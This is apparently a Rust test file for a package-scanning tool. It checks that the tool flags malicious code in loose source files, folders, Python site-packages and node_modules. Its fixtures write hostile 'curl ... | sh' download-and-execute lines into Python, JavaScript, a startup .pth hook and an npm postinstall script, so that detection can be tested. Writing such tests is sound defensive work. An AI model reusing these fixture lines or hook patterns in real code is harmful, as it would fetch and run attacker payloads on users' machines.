//! What users point `customs scan` at on their own disk (issue 23 item 6): a source
//! file alone, a folder of code with no package metadata, and an installed environment
//! (site-packages, node_modules), each judged package by package.

#![allow(clippy::unwrap_used)]

mod common;

use std::path::Path;

use common::customs;
use serde_json::Value;

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn scan(dir: &Path, targets: &[&str]) -> (Value, i32) {
    let mut args = vec!["scan", "--format", "json"];
    args.extend_from_slice(targets);
    let out = customs(dir, &args);
    let v: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    (v, out.status.code().unwrap_or(-1))
}

fn package<'a>(v: &'a Value, name: &str) -> &'a Value {
    v["packages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == name)
        .unwrap_or_else(|| panic!("no package {name} in {v:#}"))
}

/// A RECORD line with the file's real digest, as installers write it.
fn record_line(path: &str, text: &str) -> String {
    use base64::Engine as _;
    use sha2::Digest as _;
    let digest =
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(text));
    format!("{path},sha256={digest},{}\n", text.len())
}

fn rules(p: &Value) -> Vec<String> {
    p["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn a_source_file_alone_is_a_package_named_after_it() {
    let tmp = tempfile::tempdir().unwrap();
    write(
        &tmp.path().join("loose/fetcher.py"),
        "import os\nos.system('curl http://198.51.100.7/stage | sh')\n",
    );
    write(
        &tmp.path().join("loose/boot.js"),
        "const { execSync } = require('child_process');\nexecSync('curl http://198.51.100.7/s | sh');\n",
    );
    write(&tmp.path().join("loose/notes.txt"), "nothing to run\n");
    let (v, code) = scan(tmp.path(), &["loose/fetcher.py", "loose/boot.js"]);
    assert_eq!(code, 1, "{v:#}");
    let py = package(&v, "fetcher");
    assert_eq!(py["ecosystem"], "pypi");
    assert_eq!(py["verdict"], "malicious", "{py:#}");
    assert!(rules(py).contains(&"download-execute".to_owned()), "{py:#}");
    let note = py["notes"].to_string();
    assert!(note.contains("no package metadata"), "{note}");
    let js = package(&v, "boot");
    assert_eq!(js["ecosystem"], "npm");
    assert_eq!(js["verdict"], "malicious", "{js:#}");
    // The text report points at the file itself, not at a member under it.
    let out = customs(tmp.path(), &["scan", "loose/fetcher.py"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("--> loose/fetcher.py:2:1"), "{text}");
    assert!(
        text.contains("pypi:fetcher "),
        "no empty version shown: {text}"
    );
    // A file that is neither an archive nor source code is still an error.
    let out = customs(tmp.path(), &["scan", "loose/notes.txt"]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn a_folder_of_code_without_metadata_is_one_package() {
    let tmp = tempfile::tempdir().unwrap();
    write(
        &tmp.path().join("snippets/tool/__init__.py"),
        "from .net import go\ngo()\n",
    );
    write(
        &tmp.path().join("snippets/tool/net.py"),
        "import base64, os\n\ndef go():\n    exec(base64.b64decode('cHJpbnQoMSk='))\n    os.system('curl http://198.51.100.7/x | bash')\n",
    );
    let (v, code) = scan(tmp.path(), &["snippets"]);
    assert_eq!(code, 1, "{v:#}");
    let p = package(&v, "snippets");
    assert_ne!(p["verdict"], "clean", "{p:#}");
    assert!(p["notes"].to_string().contains("no package metadata"));
    // A folder holding nothing to judge is an error naming what it looked for.
    std::fs::create_dir_all(tmp.path().join("empty/docs")).unwrap();
    write(&tmp.path().join("empty/docs/index.md"), "# docs\n");
    let out = customs(tmp.path(), &["scan", "empty"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stdout).contains("source file"));
}

/// A Python environment is judged distribution by distribution, each as its RECORD
/// lists it; what a RECORD lists outside site-packages (a console script's wrapper) is
/// the installer's and is not read; a `.pth` at the root runs at every start.
#[test]
fn an_installed_environment_is_judged_distribution_by_distribution() {
    let tmp = tempfile::tempdir().unwrap();
    let sp = tmp.path().join("venv/lib/python3.11/site-packages");
    let init = "def tidy(x):\n    return x.strip()\n";
    let metadata = "Metadata-Version: 2.1\nName: tidy\nVersion: 1.2\nSummary: Strips text\nHome-page: https://tidy.example.invalid\n";
    write(&sp.join("tidy/__init__.py"), init);
    write(&sp.join("tidy-1.2.dist-info/METADATA"), metadata);
    write(
        &sp.join("tidy-1.2.dist-info/RECORD"),
        &format!(
            "{}{}tidy-1.2.dist-info/RECORD,,\n../../../bin/tidy,sha256=y,200\n",
            record_line("tidy/__init__.py", init),
            record_line("tidy-1.2.dist-info/METADATA", metadata)
        ),
    );
    write(
        &sp.join("zz_hook.pth"),
        "import os; os.system('curl http://198.51.100.7/p | sh')\n",
    );
    write(&sp.join("hooky/__init__.py"), "VERSION = '0.1'\n");
    write(
        &sp.join("hooky-0.1.dist-info/METADATA"),
        "Metadata-Version: 2.1\nName: hooky\nVersion: 0.1\n",
    );
    write(
        &sp.join("hooky-0.1.dist-info/RECORD"),
        "hooky/__init__.py,,\nzz_hook.pth,,\n\"hooky-0.1.dist-info/ME,TADATA\",,\nhooky-0.1.dist-info/METADATA,,\nhooky-0.1.dist-info/RECORD,,\n",
    );
    let (v, code) = scan(tmp.path(), &[sp.to_str().unwrap()]);
    assert_eq!(code, 1, "{v:#}");
    assert_eq!(v["packages"].as_array().unwrap().len(), 2, "{v:#}");
    let tidy = package(&v, "tidy");
    assert_eq!(tidy["verdict"], "clean", "{tidy:#}");
    assert_eq!(tidy["version"], "1.2");
    let hooky = package(&v, "hooky");
    assert_eq!(hooky["verdict"], "malicious", "{hooky:#}");
    let on_pth = hooky["findings"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["path"] == "zz_hook.pth");
    assert!(on_pth, "{hooky:#}");
    // The quoted RECORD path that does not exist is reported, not silently passed.
    assert!(hooky.to_string().contains("ME,TADATA"), "{hooky:#}");
}

#[test]
fn node_modules_is_judged_package_by_package_scopes_included() {
    let tmp = tempfile::tempdir().unwrap();
    let nm = tmp.path().join("app/node_modules");
    write(
        &nm.join("left/package.json"),
        r#"{"name": "left", "version": "1.0.0", "description": "pads", "main": "index.js"}"#,
    );
    write(
        &nm.join("left/index.js"),
        "module.exports = (s) => ' ' + s;\n",
    );
    write(
        &nm.join("@acme/telemetry/package.json"),
        r#"{"name": "@acme/telemetry", "version": "2.0.0", "scripts": {"postinstall": "node setup.js"}}"#,
    );
    write(
        &nm.join("@acme/telemetry/setup.js"),
        "require('child_process').execSync('curl http://198.51.100.7/t | sh');\n",
    );
    let (v, code) = scan(tmp.path(), &["app/node_modules"]);
    assert_eq!(code, 1, "{v:#}");
    assert_eq!(package(&v, "left")["verdict"], "clean");
    assert_eq!(package(&v, "@acme/telemetry")["verdict"], "malicious");
}
